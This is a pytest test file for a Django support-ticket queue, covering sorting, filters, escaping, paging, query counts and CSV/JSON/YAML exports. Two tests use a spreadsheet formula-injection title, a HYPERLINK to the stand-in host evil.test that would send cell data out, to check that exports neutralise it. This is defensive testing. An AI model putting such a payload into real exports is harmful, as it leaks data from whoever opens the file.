import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from support.insight.quarter import refresh_quarter_figures
from tests.factories import copy_ticket, file_ticket

pytestmark = pytest.mark.django_db


def test_the_queue_lists_open_tickets_by_next_deadline(client, plan, partner, partner_member, support_l1):
    now = timezone.now()
    later = file_ticket(partner, partner_member, title="Low: avatar upload", severity="P4", at=now)
    sooner = file_ticket(partner, partner_member, title="Critical: checkout down", severity="P1", at=now)
    done = file_ticket(partner, partner_member, title="Old question", severity="P4", at=now - timedelta(days=3))
    from support.tickets import lifecycle

    lifecycle.transition_ticket(done, action="resolve", by=support_l1)
    client.force_login(support_l1)
    page = client.get(reverse("queue")).content.decode()
    assert page.index("Critical: checkout down") < page.index("Low: avatar upload")
    assert "Old question" not in page
    assert later.pk and sooner.pk


def test_a_queue_row_shows_the_ticket_as_an_agent_reads_it(client, plan, partner, partner_member, support_l1):
    ticket = file_ticket(partner, partner_member, title="Checkout <b>500</b>", severity="P1")
    ticket.assignee = support_l1
    ticket.save(update_fields=["assignee"])
    support_l1.full_name = "Dana Agent"
    support_l1.save(update_fields=["full_name"])
    client.force_login(support_l1)
    page = client.get(reverse("queue")).content.decode()
    row = page[page.index(f'<td><a href="/tickets/{ticket.pk}/">') : page.index("</tr>", page.index("<tbody"))]
    assert '<span class="sev sev-P1">P1' in row  # the class the severity colours are keyed on
    assert "Checkout &lt;b&gt;500&lt;/b&gt;" in row  # what the partner typed is text, not markup
    assert "Dana Agent" in row and support_l1.email not in row  # people by name
    assert 'aria-label="Acknowledge #' in row and 'name="csrfmiddlewaretoken"' in row
    assert ticket.next_due_at.strftime("%Y-%m-%d %H:%M UTC") in row


def test_an_empty_queue_says_so(client, plan, support_l1):
    client.force_login(support_l1)
    assert "No tickets match these filters." in client.get(reverse("queue")).content.decode()


def test_paused_tickets_come_last_in_the_queue(client, plan, partner, partner_member, support_l1):
    from support.tickets import lifecycle

    paused = file_ticket(partner, partner_member, title="Waiting for logs", severity="P1")
    lifecycle.transition_ticket(paused, action="acknowledge", by=support_l1)
    lifecycle.transition_ticket(paused, action="wait", by=support_l1)
    file_ticket(partner, partner_member, title="Slow question", severity="P4")
    client.force_login(support_l1)
    page = client.get(reverse("queue")).content.decode()
    assert page.index("Slow question") < page.index("Waiting for logs")
    assert "Paused" in page


def test_the_queue_filters_by_severity_and_sla_state(client, plan, partner, partner_member, support_l1):
    now = timezone.now()
    file_ticket(partner, partner_member, title="Breached one", severity="P1", at=now - timedelta(hours=1))
    file_ticket(partner, partner_member, title="Fresh one", severity="P3", at=now)
    client.force_login(support_l1)
    page = client.get(reverse("queue"), {"sla_state": "breached"}).content.decode()
    assert "Breached one" in page and "Fresh one" not in page
    page = client.get(reverse("queue"), {"severity": ["P3"]}).content.decode()
    assert "Fresh one" in page and "Breached one" not in page


def test_the_queue_finds_a_partner_by_part_of_its_name(
    client, plan, partner, partner_member, other_partner, support_l1
):
    file_ticket(partner, partner_member, title="Northwind's")
    file_ticket(other_partner.partner, other_partner, title="Contoso's")
    client.force_login(support_l1)
    page = client.get(reverse("queue"), {"partner_name": "northw"}).content.decode()
    assert "Northwind&#x27;s" in page and "Contoso&#x27;s" not in page
    assert '<select name="partner"' not in page  # no list of every partner in the page


def test_a_bad_filter_answers_400_with_the_error(client, plan, support_l1):
    client.force_login(support_l1)
    response = client.get(reverse("queue"), {"severity": "P9"})
    assert response.status_code == 400
    assert "Select a valid choice" in response.content.decode()


def test_the_queue_exports_csv(client, plan, partner, partner_member, support_l1):
    file_ticket(partner, partner_member, title="Exported ticket")
    client.force_login(support_l1)
    response = client.get(reverse("queue"), {"_export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:3] == ["#", "Severity", "Title"]
    assert rows[1][2] == "Exported ticket"


def test_the_csv_export_has_plain_values_and_no_formulas(client, plan, partner, partner_member, support_l1):
    file_ticket(partner, partner_member, title='=HYPERLINK("http://evil.test/?"&A1,"Click")')
    client.force_login(support_l1)
    rows = list(csv.reader(io.StringIO(client.get(reverse("queue"), {"_export": "csv"}).content.decode())))
    assert rows[1][1] == "P2"
    assert rows[1][2] == '\'=HYPERLINK("http://evil.test/?"&A1,"Click")'
    assert "<" not in "".join(rows[1])


def test_json_and_yaml_exports_keep_typed_text_exactly(client, plan, partner, partner_member, support_l1):
    import json

    import yaml

    title = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
    file_ticket(partner, partner_member, title=title)
    client.force_login(support_l1)
    as_json = json.loads(client.get(reverse("queue"), {"_export": "json"}).content)
    assert as_json[0]["Title"] == title
    as_yaml = yaml.safe_load(client.get(reverse("queue"), {"_export": "yaml"}).content)
    assert as_yaml[0]["Title"] == title


@pytest.mark.parametrize("export", ["xlsx", "ods", "xls", "latex", "pdf", "csv;"])
def test_an_export_format_the_queue_does_not_offer_is_refused(client, plan, support_l1, export):
    client.force_login(support_l1)
    response = client.get(reverse("queue"), {"_export": export})
    assert response.status_code == 400
    assert "The queue exports as csv, tsv, json, yaml." in response.content.decode()


def test_the_queue_colours_rows_by_sla_state(client, plan, partner, partner_member, support_l1):
    file_ticket(partner, partner_member, title="Breached one", severity="P1", at=timezone.now() - timedelta(hours=1))
    client.force_login(support_l1)
    assert 'data-sla="breached"' in client.get(reverse("queue")).content.decode()


# Exact counts, the same at 10 and at 1,000 tickets: session, user, groups, the second factor (staff:
# the device the session passed; partners: whether they turned it on), then the page's own. The
# queue's partner filter is a name to search, not a list of every partner.
QUEUE_QUERIES = 8
TICKET_LIST_QUERIES = 7  # + the page of tickets (no COUNT) and the stored "your support this quarter" row


def _many(partner, submitter, count):
    # Copies of one real ticket: the query count must not depend on how many rows exist.
    copy_ticket(file_ticket(partner, submitter, title="Template"), count - 1)


@pytest.mark.parametrize("count", [10, 1000])
def test_the_queue_runs_the_same_number_of_queries_at_any_size(
    client, plan, partner, partner_member, support_l1, count, django_assert_num_queries
):
    _many(partner, partner_member, count)
    client.force_login(support_l1)
    with django_assert_num_queries(QUEUE_QUERIES):
        assert client.get(reverse("queue")).status_code == 200


@pytest.mark.parametrize("count", [10, 1000])
def test_the_ticket_list_runs_the_same_number_of_queries_at_any_size(
    client, plan, partner, partner_member, count, django_assert_num_queries
):
    _many(partner, partner_member, count)
    refresh_quarter_figures()
    client.force_login(partner_member)
    with django_assert_num_queries(TICKET_LIST_QUERIES):
        assert client.get(reverse("ticket_list")).status_code == 200


def test_the_ticket_list_pages_without_counting_every_ticket(client, plan, partner, partner_member):
    _many(partner, partner_member, 30)
    client.force_login(partner_member)
    first = client.get(reverse("ticket_list")).content.decode()
    assert "Page 1" in first and "?page=2" in first and "Page 1 of" not in first
    second = client.get(reverse("ticket_list"), {"page": "2"}).content.decode()
    assert "Page 2" in second and "?page=1" in second and "?page=3" not in second
    for beyond in ("99", "x", "-1"):
        assert "Page 1" in client.get(reverse("ticket_list"), {"page": beyond}).content.decode()


@pytest.mark.parametrize("params", [{"per_page": "-3"}, {"page": "4611686018427387904"}, {"status": "bogus"}])
def test_bad_paging_or_filters_answer_400_with_no_rows(client, plan, partner, partner_member, support_l1, params):
    file_ticket(partner, partner_member, title="Should not show")
    client.force_login(support_l1)
    response = client.get(reverse("queue"), params)
    assert response.status_code == 400
    assert "Should not show" not in response.content.decode()


def test_a_ticket_answered_late_counts_as_breached_in_the_filter(client, plan, partner, partner_member, support_l1):
    from support.tickets import lifecycle

    late = file_ticket(partner, partner_member, title="Answered late", at=timezone.now() - timedelta(minutes=90))
    lifecycle.transition_ticket(late, action="acknowledge", by=support_l1)
    client.force_login(support_l1)
    assert "Answered late" in client.get(reverse("queue"), {"sla_state": "breached"}).content.decode()
    assert "Answered late" not in client.get(reverse("queue"), {"sla_state": "ok"}).content.decode()
